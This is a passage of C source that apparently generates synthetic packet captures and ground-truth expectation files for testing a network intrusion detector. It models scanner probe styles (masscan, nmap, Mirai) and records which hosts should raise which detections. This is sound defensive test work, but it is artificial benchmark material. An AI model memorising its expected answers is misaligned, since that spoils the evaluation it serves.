	p = pcap_open_dead_with_tstamp_precision(link_dlt(t->link), snaplen,
						 nano ? PCAP_TSTAMP_PRECISION_NANO
						      : PCAP_TSTAMP_PRECISION_MICRO);
	if (!p)
		return -ENOMEM;
	d = pcap_dump_open(p, path);
	if (!d) {
		snprintf(errbuf, sizeof(errbuf), "%s", pcap_geterr(p));
		fprintf(stderr, "%s: %s\n", prog, errbuf);
		pcap_close(p);
		return -EIO;
	}
	for (size_t i = 0; i < t->nrecs; i++) {
		const struct rec *rc = &t->recs[i];
		struct pcap_pkthdr h;
		int64_t sub = rc->ts % 1000000;

		memset(&h, 0, sizeof(h));
		h.ts.tv_sec = (time_t)(BASE_EPOCH + rc->ts / 1000000);
		/* with nanosecond precision libpcap stores tv_usec as ns */
		h.ts.tv_usec = (suseconds_t)(nano ? sub * 1000 + (rc->order * 37) % 1000 : sub);
		h.len = rc->len;
		h.caplen = rc->len < (uint32_t)snaplen ? rc->len : (uint32_t)snaplen;
		pcap_dump((u_char *)d, &h, t->arena + rc->off);
	}
	if (pcap_dump_flush(d) < 0 || ferror(pcap_dump_file(d)))
		r = -EIO;
	pcap_dump_close(d);
	pcap_close(p);
	return r;
}

/* ------------------------------------------------------------------ */
/* 4. Host behaviour                                                   */
/* ------------------------------------------------------------------ */

/* A new ephemeral source port in the stack's range: Windows counts up
 * from 49152, Linux hashes over 32768-60999. */
static uint16_t eport(struct host *h)
{
	uint32_t c = h->port_ctr++;

	if (h->stack == ST_WIN)
		return (uint16_t)(49152 + c % 16384);
	return (uint16_t)(32768 + (c * 2654435761u >> 7) % 28232);
}

static struct ip_fields ipf(struct host *from, struct host *to, uint8_t proto)
{
	struct ip_fields f;

	memset(&f, 0, sizeof(f));
	f.src = from->ip;
	f.dst = to->ip;
	f.proto = proto;
	f.ttl = from->ttl;
	f.id = from->ip_id++;
	f.df = proto == IPPROTO_TCP || from->stack == ST_LINUX;
	f.flow = from->ip.af == 6 ? (uint32_t)(addr_hash(to->ip) ^ from->port_ctr) & 0xfffff : 0;
	return f;
}

/* TCP options of a SYN, or of a SYN-ACK (synack) answering a SYN that did
 * (peer_ts) or did not offer timestamps, as each stack sends them. */
static size_t syn_options(const struct host *h, bool synack, bool peer_ts, uint32_t ecr,
			  uint8_t opt[40])
{
	/* MSS 1460, NOP, WS 8, NOP, NOP, SACK_PERM */
	static const uint8_t win[] = {2, 4, 0x05, 0xb4, 1, 3, 3, 8, 1, 1, 4, 2};
	/* MSS 1460, NOP, NOP, SACK_PERM, NOP, WS 7 */
	static const uint8_t linux_nots[] = {2, 4, 0x05, 0xb4, 1, 1, 4, 2, 1, 3, 3, 7};
	/* MSS 1460, SACK_PERM, TS (val, ecr filled in), NOP, WS 7 */
	static const uint8_t linux_ts[] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0,
					   0, 0, 0,    0,    0, 0, 1, 3,  3, 7};

	if (h->stack == ST_WIN) {
		memcpy(opt, win, sizeof(win));
		return sizeof(win);
	}
	if (synack && !peer_ts) {
		memcpy(opt, linux_nots, sizeof(linux_nots));
		return sizeof(linux_nots);
	}
	memcpy(opt, linux_ts, sizeof(linux_ts));
	put32_at(opt + 8, h->tsval);
	put32_at(opt + 12, ecr);
	return sizeof(linux_ts);
}

/* How a scanner crafts its probes when it bypasses the host's stack
 * (masscan, nmap, Mirai): NULL means "the stack's own SYN". */
struct synstyle {
	enum { SO_STACK, SO_NONE, SO_MSS } opts;
	uint16_t win;	/* 0: the stack's */
	bool fixed_seq; /* seq instead of a random ISN (Mirai: the target) */
	uint32_t seq;
	uint8_t ttl;	/* 0: the host's */
	bool random_id; /* random IPv4 identification per probe */
	bool no_df;
	bool hbh; /* IPv6: a hop-by-hop options header on the SYN */
};

static void tcp_emit(struct trace *t, int64_t ts, struct host *from, struct host *to,
		     const struct tcp_fields *tf, const struct synstyle *sty, struct pb *ret_ip)
{
	struct ip_fields f = ipf(from, to, IPPROTO_TCP);
	struct pb l4, ip;

	if (sty) {
		if (sty->ttl)
			f.ttl = sty->ttl;
		if (sty->random_id)
			f.id = (uint16_t)rng_next(&t->rng);
		if (sty->no_df)
			f.df = false;
		f.hbh = sty->hbh;
	}

	tcp_build(&l4, tf);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, ts, &ip);
	if (ret_ip)
		*ret_ip = ip;
}

/* One TCP conversation as seen from the capture point. */
struct conn {
	struct host *c, *s;
	uint16_t sport, dport;
	uint32_t cseq, sseq; /* next sequence number of each side */
	int64_t rtt;	     /* capture point -> server -> capture point */
	int64_t crtt;	     /* capture point -> client -> capture point */
	bool ts;	     /* both sides use RFC 7323 timestamps */
	uint16_t cwin, swin;
	const struct synstyle *sty; /* client crafts raw probes; NULL: its stack */
};

/* Round trip from the capture point to h: a LAN hop, a routed internal
 * hop, or the Internet.  Stable per host. */
static int64_t path_rtt(const struct host *h)
{
	uint64_t hv = addr_hash(h->ip);
	int64_t base;

	if (addr_is_lan(h->ip))
		base = 150 + (int64_t)(hv % 350);
	else if (addr_is_internal(h->ip))
		base = 400 + (int64_t)(hv % 1600);
	else
		base = MS(8) + (int64_t)(hv % 110000);
	return base;
}

static void conn_init(struct trace *t, struct conn *k, struct host *c, uint16_t sport,
		      struct host *s, uint16_t dport, const struct synstyle *sty)
{
	memset(k, 0, sizeof(*k));
	k->c = c;
	k->s = s;
	k->sport = sport ? sport : eport(c);
	k->dport = dport;
	k->cseq = (uint32_t)rng_next(&t->rng);
	k->sseq = (uint32_t)rng_next(&t->rng);
	k->rtt = path_rtt(s);
	k->crtt = path_rtt(c);
	k->sty = sty;
	if (sty && sty->fixed_seq)
		k->cseq = sty->seq;
	k->ts = c->stack == ST_LINUX && s->stack == ST_LINUX && (!sty || sty->opts == SO_STACK);
	/* windows after the handshake, in units of the scale each side
	 * announced (Windows 8, Linux 7) */
	k->cwin = c->stack == ST_WIN ? 1026 : 502;
	k->swin = s->stack == ST_WIN ? 256 : 509;
	if (sty && sty->opts != SO_STACK)
		k->cwin = k->swin = 1024;
}

/* Sends one segment of k; from_server picks the direction. */
static void conn_seg(struct trace *t, int64_t ts, struct conn *k, bool from_server, uint8_t flags,
		     const uint8_t *data, size_t dlen, struct pb *ret_ip)
{
	struct host *from = from_server ? k->s : k->c;
	struct host *to = from_server ? k->c : k->s;
	uint8_t opt[40];
	size_t optlen = 0;
	struct tcp_fields tf;

	if (k->ts && !(flags & TH_RST)) {
		/* NOP NOP TS */
		opt[0] = opt[1] = 1;
		opt[2] = 8;
		opt[3] = 10;
		from->tsval += 3;
		for (int i = 3; i >= 0; i--)
			opt[4 + (3 - i)] = (uint8_t)(from->tsval >> (8 * i));
		for (int i = 3; i >= 0; i--)
			opt[8 + (3 - i)] = (uint8_t)(to->tsval >> (8 * i));
		optlen = 12;
	}
	memset(&tf, 0, sizeof(tf));
	tf.sport = from_server ? k->dport : k->sport;
	tf.dport = from_server ? k->sport : k->dport;
	tf.seq = from_server ? k->sseq : k->cseq;
	tf.ack = (flags & TH_ACK) ? (from_server ? k->cseq : k->sseq) : 0;
	tf.flags = flags;
	tf.win = flags & TH_RST ? 0 : from_server ? k->swin : k->cwin;
	tf.opt = opt;
	tf.optlen = optlen;
	tf.data = data;
	tf.dlen = dlen;
	tcp_emit(t, ts, from, to, &tf, from_server ? NULL : k->sty, ret_ip);
	if (from_server)
		k->sseq += (uint32_t)dlen + ((flags & (TH_SYN | TH_FIN)) ? 1 : 0);
	else
		k->cseq += (uint32_t)dlen + ((flags & (TH_SYN | TH_FIN)) ? 1 : 0);
}

/* The client's SYN (seq = ISN, not advanced: retransmissions reuse it). */
static void conn_syn(struct trace *t, int64_t ts, struct conn *k, struct pb *ret_ip)
{
	uint8_t opt[40];
	struct tcp_fields tf;

	memset(&tf, 0, sizeof(tf));
	tf.sport = k->sport;
	tf.dport = k->dport;
	tf.seq = k->cseq;
	tf.flags = TH_SYN;
	tf.win = k->c->stack == ST_WIN ? 8192 : 64240;
	tf.optlen = syn_options(k->c, false, false, 0, opt);
	tf.opt = opt;
	if (k->sty) {
		if (k->sty->win)
			tf.win = k->sty->win;
		if (k->sty->opts == SO_NONE)
			tf.optlen = 0;
		if (k->sty->opts == SO_MSS)
			tf.optlen = 4;
	}
	tcp_emit(t, ts, k->c, k->s, &tf, k->sty, ret_ip);
}

/* The server's SYN-ACK; the caller has already counted the client's SYN
 * in k->cseq. */
static void conn_synack(struct trace *t, int64_t ts, struct conn *k)
{
	uint8_t opt[40];
	struct tcp_fields tf;

	memset(&tf, 0, sizeof(tf));
	tf.sport = k->dport;
	tf.dport = k->sport;
	tf.seq = k->sseq;
	tf.ack = k->cseq;
	tf.flags = TH_SYN | TH_ACK;
	tf.win = k->s->stack == ST_WIN ? 8192 : 65160; /* never scaled in a SYN */
	tf.optlen = syn_options(k->s, true, k->c->stack == ST_LINUX, k->c->tsval, opt);
	if (k->sty && k->sty->opts != SO_STACK)
		tf.optlen = 4; /* the SYN offered nothing but (maybe) MSS */
	tf.opt = opt;
	tcp_emit(t, ts, k->s, k->c, &tf, NULL, NULL);
}

/* RST/ACK from a closed port. */
static void conn_refuse(struct trace *t, int64_t ts, struct conn *k)
{
	struct tcp_fields tf;

	memset(&tf, 0, sizeof(tf));
	tf.sport = k->dport;
	tf.dport = k->sport;
	tf.ack = k->cseq + 1;
	tf.flags = TH_RST | TH_ACK;
	tcp_emit(t, ts, k->s, k->c, &tf, NULL, NULL);
}

/* SYN retransmission times after the first SYN: Linux 1 s, then doubling;
 * Windows 3 s, then doubling. */
static int64_t syn_rto(const struct host *h, int n)
{
	int64_t first = h->stack == ST_WIN ? SEC(3) : SEC(1);
	int64_t at = 0;

	for (int i = 0; i < n; i++)
		at += first << i;
	return at;
}

/* A message of an application dialogue. */
struct msg {
	bool from_server;
	const char *text; /* NULL: len pseudo-random bytes */
	size_t len;	  /* 0: strlen(text) */
};

/* Dialogue lines: text from the client or the server, n opaque bytes, or
 * a binary string literal (which may hold NULs). */
/* clang-format off */
#define CLI(s)   {false, (s), 0}
#define SRV(s)   {true, (s), 0}
#define CLIN(n)  {false, NULL, (n)}
#define SRVN(n)  {true, NULL, (n)}
#define CLIB(s)  {false, (s), sizeof(s) - 1}
#define SRVB(s)  {true, (s), sizeof(s) - 1}
/* clang-format on */

/* Sends data on k as MSS-sized segments; the receiver ACKs the last one.
 * Returns the time of that ACK. */
static int64_t conn_send(struct trace *t, int64_t ts, struct conn *k, bool from_server,
			 const uint8_t *data, size_t len)
{
	int64_t there = from_server ? k->crtt : k->rtt;

	for (size_t off = 0; off < len; off += 1448) {
		size_t n = len - off > 1448 ? 1448 : len - off;

		conn_seg(t, ts, k, from_server, TH_ACK | (off + n == len ? TH_PSH : 0), data + off,
			 n, NULL);
		ts += 12 + (int64_t)n / 10;
	}
	conn_seg(t, ts + there, k, !from_server, TH_ACK, NULL, 0, NULL);
	return ts + there;
}

static void fill_random(struct trace *t, uint8_t *b, size_t n)
{
	for (size_t i = 0; i < n; i++)
		b[i] = (uint8_t)rng_next(&t->rng);
}

/* Three-way handshake (the first SYN lost beyond the capture point and
 * sent again when lost_syn) and the dialogue.  Returns the time of its
 * last packet. */
static int64_t conn_talk(struct trace *t, int64_t ts, struct conn *k, const struct msg *m,
			 size_t nm, bool lost_syn)
{
	static uint8_t buf[16384];

	conn_syn(t, ts, k, NULL);
	if (lost_syn) {
		ts += syn_rto(k->c, 1);
		conn_syn(t, ts, k, NULL);
	}
	k->cseq++;
	conn_synack(t, ts + k->rtt, k);
	k->sseq++;
	ts += k->rtt + k->crtt;
	conn_seg(t, ts, k, false, TH_ACK, NULL, 0, NULL);
	for (size_t i = 0; i < nm; i++) {
		size_t len = m[i].len ? m[i].len : strlen(m[i].text);

		if (len > sizeof(buf))
			die("message too long");
		if (m[i].text)
			memcpy(buf, m[i].text, len);
		else
			fill_random(t, buf, len);
		/* the peer's think time before it speaks */
		ts += 200 + (int64_t)rng_range(&t->rng, 0, 2000);
		ts = conn_send(t, ts, k, m[i].from_server, buf, len);
	}
	return ts;
}

/* Three-way handshake, the dialogue, and a FIN exchange started by the
 * client (or a client RST when rst_close).  Returns the last packet time. */
static int64_t conn_dialog(struct trace *t, int64_t ts, struct conn *k, const struct msg *m,
			   size_t nm, bool rst_close)
{
	ts = conn_talk(t, ts, k, m, nm, false);
	ts += MS(1) + (int64_t)rng_range(&t->rng, 0, 20000);
	if (rst_close) {
		conn_seg(t, ts, k, false, TH_RST | TH_ACK, NULL, 0, NULL);
		return ts;
	}
	conn_seg(t, ts, k, false, TH_FIN | TH_ACK, NULL, 0, NULL);
	conn_seg(t, ts + k->rtt, k, true, TH_FIN | TH_ACK, NULL, 0, NULL);
	conn_seg(t, ts + k->rtt + k->crtt, k, false, TH_ACK, NULL, 0, NULL);
	return ts + k->rtt + k->crtt;
}

/* How a first contact ends. */
enum outcome {
	OC_SILENT,   /* nothing comes back; the client retransmits */
	OC_RST,	     /* closed port: RST/ACK */
	OC_OPEN,     /* SYN-ACK and the dialogue */
	OC_OPEN_RST, /* SYN-ACK, then the client resets (scanners, raw SYNs) */
	OC_UNREACH,  /* a firewall answers ICMP administratively prohibited */
};

static struct host *router_for(struct trace *t, const struct host *dst)
{
	if (dst->ip.af == 6)
		return H(t, addr_is_internal(dst->ip) ? "fd00:2::1" : "2001:db8:ffff::1");
	return H(t, addr_is_internal(dst->ip) ? "10.2.0.1" : "198.51.100.1");
}

static void icmp_error(struct trace *t, int64_t ts, struct host *from, struct host *to,
		       uint8_t type, uint8_t code, const struct pb *orig, size_t quote_max);

/* A TCP connection attempt from c to s:dport starting at ts; returns the
 * time of its last packet.  retries caps the SYN retransmissions of a
 * silent attempt. */
static int64_t tcp_attempt_sty(struct trace *t, int64_t ts, struct host *c, uint16_t sport,
			       struct host *s, uint16_t dport, enum outcome oc, const struct msg *m,
			       size_t nm, int retries, const struct synstyle *sty)
{
	struct conn k;
	struct pb syn;

	conn_init(t, &k, c, sport, s, dport, sty);
	switch (oc) {
	case OC_SILENT:
		conn_syn(t, ts, &k, NULL);
		for (int i = 1; i <= retries; i++)
			conn_syn(t, ts + syn_rto(c, i), &k, NULL);
		return ts + syn_rto(c, retries);
	case OC_RST:
		conn_syn(t, ts, &k, NULL);
		conn_refuse(t, ts + k.rtt, &k);
		return ts + k.rtt;
	case OC_UNREACH:
		conn_syn(t, ts, &k, &syn);
		icmp_error(t, ts + k.rtt / 2, router_for(t, s), c, s->ip.af == 4 ? 3 : 1,
			   s->ip.af == 4 ? 13 : 1, &syn, 28);
		return ts + k.rtt / 2;
	case OC_OPEN_RST:
		conn_syn(t, ts, &k, NULL);
		k.cseq++;
		conn_synack(t, ts + k.rtt, &k);
		conn_seg(t, ts + k.rtt + k.crtt, &k, false, TH_RST, NULL, 0, NULL);
		return ts + k.rtt + k.crtt;
	case OC_OPEN:
		return conn_dialog(t, ts, &k, m, nm, false);
	}
	return ts;
}

static int64_t tcp_attempt(struct trace *t, int64_t ts, struct host *c, uint16_t sport,
			   struct host *s, uint16_t dport, enum outcome oc, const struct msg *m,
			   size_t nm, int retries)
{
	return tcp_attempt_sty(t, ts, c, sport, s, dport, oc, m, nm, retries, NULL);
}

static void udp_emit(struct trace *t, int64_t ts, struct host *from, uint16_t sport,
		     struct host *to, uint16_t dport, const uint8_t *data, size_t len,
		     struct pb *ret_ip)
{
	struct ip_fields f = ipf(from, to, IPPROTO_UDP);
	struct pb l4, ip;

	udp_build(&l4, sport, dport, data, len);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, ts, &ip);
	if (ret_ip)
		*ret_ip = ip;
}

/* UDP to a group address from a LAN host (TTL 1 for link-local groups, as
 * stacks send them); to is a group or broadcast address. */
static void udp_group(struct trace *t, int64_t ts, struct host *from, uint16_t sport,
		      struct addr group, uint16_t dport, const uint8_t *data, size_t len)
{
	struct host g;
	struct ip_fields f;
	struct pb l4, ip;

	memset(&g, 0, sizeof(g));
	g.ip = group;
	f = ipf(from, &g, IPPROTO_UDP);
	if (addr_is_mcast(group))
		f.ttl = group.af == 4 && group.b[0] == 239 ? 4 : 1;
	if (group.af == 6)
		f.ttl = 255;
	udp_build(&l4, sport, dport, data, len);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, ts, &ip);
}

/* ICMP/ICMPv6 error from `from` to `to` quoting up to quote_max bytes of
 * orig (routers quote the IP header and 8 bytes, hosts as much as fits). */
static void icmp_error(struct trace *t, int64_t ts, struct host *from, struct host *to,
		       uint8_t type, uint8_t code, const struct pb *orig, size_t quote_max)
{
	bool v6 = to->ip.af == 6;
	struct ip_fields f = ipf(from, to, v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP);
	struct pb l4, ip;
	size_t q = orig->n < quote_max ? orig->n : quote_max;

	f.df = false;
	icmp_build(&l4, type, code, 0, orig->b, q);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, ts, &ip);
}

/* ICMP/ICMPv6 echo request or reply with a ping-like payload. */
static void icmp_echo(struct trace *t, int64_t ts, struct host *from, struct host *to, bool reply,
		      uint16_t id, uint16_t seq, size_t plen)
{
	bool v6 = from->ip.af == 6;
	struct ip_fields f = ipf(from, to, v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP);
	uint8_t data[64];
	struct pb l4, ip;
	uint8_t type = v6 ? (reply ? 129 : 128) : (reply ? 0 : 8);

	if (plen > sizeof(data))
		plen = sizeof(data);
	for (size_t i = 0; i < plen; i++)
		data[i] = (uint8_t)(i < 8 ? (ts >> (8 * i)) & 0xff : 0x10 + i - 8);
	icmp_build(&l4, type, 0, (uint32_t)id << 16 | seq, data, plen);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, ts, &ip);
}

/* ICMPv6 neighbour solicitation for target and its advertisement. */
static void nd_exchange(struct trace *t, int64_t ts, struct host *from, struct host *target)
{
	struct host sn;
	struct ip_fields f;
	struct pb l4, ip;
	uint8_t opt[24];

	memset(&sn, 0, sizeof(sn));
	sn.ip = addr_lit("ff02::1:ff00:0");
	memcpy(sn.ip.b + 13, target->ip.b + 13, 3);
	f = ipf(from, &sn, IPPROTO_ICMPV6);
	f.ttl = 255;
	memcpy(opt, target->ip.b, 16);
	opt[16] = 1; /* source link-layer address */
	opt[17] = 1;
	memcpy(opt + 18, from->mac, 6);
	icmp_build(&l4, 135, 0, 0, opt, 24);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, ts, &ip);

	f = ipf(target, from, IPPROTO_ICMPV6);
	f.ttl = 255;
	opt[16] = 2; /* target link-layer address */
	memcpy(opt + 18, addr_is_lan(target->ip) ? target->mac : MAC_GW, 6);
	icmp_build(&l4, 136, 0, 0x60000000u, opt, 24); /* solicited, override */
	ip_packet(&ip, &f, &l4);
	emit_ip(t, ts + 300, &ip);
}

/* DNS message with one question and, for a response, one answer. */
static size_t dns_msg(uint8_t *out, size_t cap, uint16_t id, bool resp, const char *name,
		      uint16_t qtype, const uint8_t *rdata, size_t rdlen)
{
	struct pb p = {.n = 0};
	const char *s = name;

	pb_u16(&p, id);
	pb_u16(&p, resp ? 0x8180 : 0x0100);
	pb_u16(&p, 1);
	pb_u16(&p, resp ? 1 : 0);
	pb_u16(&p, 0);
	pb_u16(&p, 0);
	while (*s) {
		const char *dot = strchr(s, '.');
		size_t l = dot ? (size_t)(dot - s) : strlen(s);

		pb_u8(&p, (unsigned)l);
		pb_bytes(&p, s, l);
		s += l + (dot ? 1 : 0);
	}
	pb_u8(&p, 0);
	pb_u16(&p, qtype);
	pb_u16(&p, 1);
	if (resp) {
		pb_u16(&p, 0xc00c);
		pb_u16(&p, qtype);
		pb_u16(&p, 1);
		pb_u32(&p, 300);
		pb_u16(&p, (unsigned)rdlen);
		pb_bytes(&p, rdata, rdlen);
	}
	if (p.n > cap)
		die("DNS message too long");
	memcpy(out, p.b, p.n);
	return p.n;
}

/* The address a name resolves to: a stable outside web server. */
static struct addr name_addr(const char *name)
{
	uint64_t hv = fnv1a(name, strlen(name));

	if (hv & 1)
		return a4(203, 0, 113, (unsigned)(10 + (hv >> 8) % 80));
	return a4(198, 51, 100, (unsigned)(10 + (hv >> 8) % 80));
}

/* client asks resolver for name; when upstream is not NULL the resolver
 * recurses to it first.  Returns the time of the answer. */
static int64_t dns_lookup(struct trace *t, int64_t ts, struct host *client, struct host *resolver,
			  const char *name, uint16_t qtype, struct host *upstream)
{
	uint8_t q[512], r[512], rd[64];
	size_t ql, rl, rdl = 4;
	uint16_t id = (uint16_t)rng_next(&t->rng);
	uint16_t sport = eport(client);
	int64_t at;

	if (qtype == 15) { /* MX: preference 10, "mx" + pointer to the name */
		rd[0] = 0;
		rd[1] = 10;
		rd[2] = 2;
		rd[3] = 'm';
		rd[4] = 'x';
		rd[5] = 0xc0;
		rd[6] = 0x0c;
		rdl = 7;
	} else if (qtype == 28) {
		struct addr a = a6("2001:db8:80::", (uint32_t)fnv1a(name, strlen(name)) & 0xffff);

		memcpy(rd, a.b, 16);
		rdl = 16;
	} else {
		memcpy(rd, name_addr(name).b, 4);
	}
	ql = dns_msg(q, sizeof(q), id, false, name, qtype, NULL, 0);
	rl = dns_msg(r, sizeof(r), id, true, name, qtype, rd, rdl);
	udp_emit(t, ts, client, sport, resolver, 53, q, ql, NULL);
	at = ts + path_rtt(resolver) / 2 + 80;
	if (upstream) {
		uint16_t id2 = (uint16_t)rng_next(&t->rng);
		uint16_t usport = eport(resolver);
		uint8_t q2[512], r2[512];
		size_t q2l = dns_msg(q2, sizeof(q2), id2, false, name, qtype, NULL, 0);
		size_t r2l = dns_msg(r2, sizeof(r2), id2, true, name, qtype, rd, rdl);

		q2[2] = 0; /* iterative: RD clear */
		udp_emit(t, at, resolver, usport, upstream, 53, q2, q2l, NULL);
		at += path_rtt(upstream);
		udp_emit(t, at, upstream, 53, resolver, usport, r2, r2l, NULL);
		at += 60;
	}
	udp_emit(t, at, resolver, 53, client, sport, r, rl, NULL);
	return at + path_rtt(client) / 2;
}

static void arp_request(struct trace *t, int64_t ts, struct host *from, struct addr target)
{
	emit_arp(t, ts, 1, from->mac, from->ip, MAC_ZERO, target, MAC_BCAST);
}

static void arp_reply(struct trace *t, int64_t ts, struct host *from, struct host *to)
{
	emit_arp(t, ts, 2, from->mac, from->ip, to->mac, to->ip, to->mac);
}

/* ------------------------------------------------------------------ */
/* 5. Ground truth and config files                                    */
/* ------------------------------------------------------------------ */

#define MAXF 6

struct t_expect {
	char host[INET6_ADDRSTRLEN];
	const char *rule;
	const char *action;
	bool has_nb, has_na;
	int64_t not_before;
	int64_t not_after; /* the first detect comes by then */
	uint16_t ports[8];
	unsigned nports;
	const char *fk[MAXF]; /* fields every detect of host+rule must carry */
	const char *fv[MAXF];
	unsigned nf;
};

struct t_host_rule {
	char host[INET6_ADDRSTRLEN];
	const char *what; /* an action (max_action) or a rule (forbid) */
};

struct t_incident {
	const char *rule;
	char pz[INET6_ADDRSTRLEN];
	unsigned hosts;
};

/* Who infected whom: host's detections name by (infected_by). */
struct t_edge {
	char host[INET6_ADDRSTRLEN], by[INET6_ADDRSTRLEN];
};

struct truth {
	struct t_expect expect[24];
	unsigned nexpect;
	struct t_host_rule maxact[32];
	unsigned nmaxact;
	struct t_host_rule forbid[16];
	unsigned nforbid;
	char no_alert[96][INET6_ADDRSTRLEN];
	unsigned nno_alert;
	char one_incident[8][INET6_ADDRSTRLEN]; /* all its detections in one incident */
	unsigned none_incident;
	struct t_incident inc[8];
	unsigned ninc;
	struct t_edge edges[8];
	unsigned nedges;
	char never_block[8][INET6_ADDRSTRLEN];
	unsigned nnever_block;
	bool exclusive;
	char conf[8192];
	size_t conflen;
};

static void hostcpy(char dst[INET6_ADDRSTRLEN], struct addr a)
{
	addr_fmt(a, dst);
}

static struct t_expect *expect(struct truth *tr, const struct host *h, const char *rule,
			       const char *action)
{
	struct t_expect *e;

	if (tr->nexpect == ARRAY_SIZE(tr->expect))
		die("too many expectations");
	e = &tr->expect[tr->nexpect++];
	memset(e, 0, sizeof(*e));
	hostcpy(e->host, h->ip);
	e->rule = rule;
	e->action = action;
	return e;
}

static void expect_not_before(struct t_expect *e, int64_t ts)
{
	e->has_nb = true;
	e->not_before = ts;
}

static void expect_not_after(struct t_expect *e, int64_t ts)
{
	e->has_na = true;
	e->not_after = ts;
}

static void expect_ports(struct t_expect *e, unsigned n, const uint16_t *ports)
{
	if (n > ARRAY_SIZE(e->ports))
		die("too many ports");
	memcpy(e->ports, ports, n * sizeof(*ports));
	e->nports = n;
}

static void expect_field(struct t_expect *e, const char *k, const char *v)
{
	if (e->nf == MAXF)
		die("too many fields");
	e->fk[e->nf] = k;
	e->fv[e->nf++] = v;
}

static void max_action(struct truth *tr, const struct host *h, const char *action)
{
	if (tr->nmaxact == ARRAY_SIZE(tr->maxact))
		die("too many max_action entries");
	hostcpy(tr->maxact[tr->nmaxact].host, h->ip);
	tr->maxact[tr->nmaxact++].what = action;
}

static void forbid(struct truth *tr, const struct host *h, const char *rule)
{
	if (tr->nforbid == ARRAY_SIZE(tr->forbid))
		die("too many forbid entries");
	hostcpy(tr->forbid[tr->nforbid].host, h->ip);
	tr->forbid[tr->nforbid++].what = rule;
}

static void one_incident(struct truth *tr, const struct host *h)
{
	if (tr->none_incident == ARRAY_SIZE(tr->one_incident))
		die("too many one_incident entries");
	hostcpy(tr->one_incident[tr->none_incident++], h->ip);
}

static void no_alert(struct truth *tr, const struct host *h)
{
	char s[INET6_ADDRSTRLEN];

	hostcpy(s, h->ip);
	for (unsigned i = 0; i < tr->nno_alert; i++)
		if (strcmp(tr->no_alert[i], s) == 0)
			return;
	if (tr->nno_alert == ARRAY_SIZE(tr->no_alert))
		die("too many no_alert entries");
	strcpy(tr->no_alert[tr->nno_alert++], s);
}

static void incident(struct truth *tr, const char *rule, const struct host *pz, unsigned hosts)
{
	if (tr->ninc == ARRAY_SIZE(tr->inc))
		die("too many incidents");
	tr->inc[tr->ninc].rule = rule;
	hostcpy(tr->inc[tr->ninc].pz, pz->ip);
	tr->inc[tr->ninc++].hosts = hosts;
}

/* victim was infected by from (infect()): its detections name from. */
static void infected_by(struct truth *tr, const struct host *victim, const struct host *from)
{
	if (tr->nedges == ARRAY_SIZE(tr->edges))
		die("too many infected_by entries");
	hostcpy(tr->edges[tr->nedges].host, victim->ip);
	hostcpy(tr->edges[tr->nedges++].by, from->ip);
}

static void never_block(struct truth *tr, const struct host *h)
{
	if (tr->nnever_block == ARRAY_SIZE(tr->never_block))
		die("too many never_block entries");
	hostcpy(tr->never_block[tr->nnever_block++], h->ip);
}

/* Appends to the scenario's config file (libconfig syntax). */
static void conf(struct truth *tr, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void conf(struct truth *tr, const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(tr->conf + tr->conflen, sizeof(tr->conf) - tr->conflen, fmt, ap);
	va_end(ap);
	if (n < 0 || (size_t)n >= sizeof(tr->conf) - tr->conflen)
		die("config text too long");
	tr->conflen += (size_t)n;
}

static const char *fmt_ts(int64_t ts, char buf[32])
{
	time_t sec = (time_t)(BASE_EPOCH + ts / 1000000);
	struct tm tm;

	gmtime_r(&sec, &tm);
	strftime(buf, 32, "%Y-%m-%dT%H:%M:%S", &tm);
	snprintf(buf + 19, 13, ".%06dZ", (int)(ts % 1000000));
	return buf;
}

static void json_str(FILE *f, const char *s)
{
	fputc('"', f);
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;

		if (c == '"' || c == '\\')
			fprintf(f, "\\%c", c);
		else if (c < 0x20)
			fprintf(f, "\\u%04x", c);
		else
			fputc(c, f);
	}
	fputc('"', f);
}

static void json_strlist(FILE *f, const char (*v)[INET6_ADDRSTRLEN], unsigned n)
{
	fputc('[', f);
	for (unsigned i = 0; i < n; i++) {
		if (i)
			fputs(", ", f);
		json_str(f, v[i]);
	}
	fputc(']', f);
}

static void json_host_rules(FILE *f, const char *key, const char *what, const struct t_host_rule *v,
			    unsigned n)
{
	fprintf(f, "  \"%s\": [", key);
	for (unsigned i = 0; i < n; i++) {
		fprintf(f, "%s\n    {\"host\": ", i ? "," : "");
		json_str(f, v[i].host);
		fprintf(f, ", \"%s\": ", what);
		json_str(f, v[i].what);
		fputc('}', f);
	}
	fputs(n ? "\n  ],\n" : "],\n", f);
}

static void truth_write(FILE *f, const char *name, const char *desc, const struct truth *tr)
{
	char buf[32];

	fputs("{\n  \"name\": ", f);
	json_str(f, name);
	fputs(",\n  \"description\": ", f);
	json_str(f, desc);
	fprintf(f, ",\n  \"pcap\": \"%s.pcap\",\n  \"config\": ", name);
	if (tr->conflen)
		fprintf(f, "\"%s.conf\"", name);
	else
		fputs("null", f);
	fputs(",\n  \"expect\": [", f);
	for (unsigned i = 0; i < tr->nexpect; i++) {
		const struct t_expect *e = &tr->expect[i];

		fprintf(f, "%s\n    {\"host\": ", i ? "," : "");
		json_str(f, e->host);
		fputs(", \"rule\": ", f);
		json_str(f, e->rule);
		fputs(", \"action\": ", f);
		json_str(f, e->action);
		if (e->has_nb)
			fprintf(f, ", \"not_before\": \"%s\"", fmt_ts(e->not_before, buf));
		if (e->has_na)
			fprintf(f, ", \"not_after\": \"%s\"", fmt_ts(e->not_after, buf));
		if (e->nports) {
			fputs(", \"ports\": [", f);
			for (unsigned j = 0; j < e->nports; j++)
				fprintf(f, "%s%u", j ? ", " : "", e->ports[j]);
			fputc(']', f);
		}
		if (e->nf) {
			fputs(", \"fields\": {", f);
			for (unsigned j = 0; j < e->nf; j++) {
				fputs(j ? ", " : "", f);
				json_str(f, e->fk[j]);
				fputs(": ", f);
				json_str(f, e->fv[j]);
			}
			fputc('}', f);
		}
		fputc('}', f);
	}
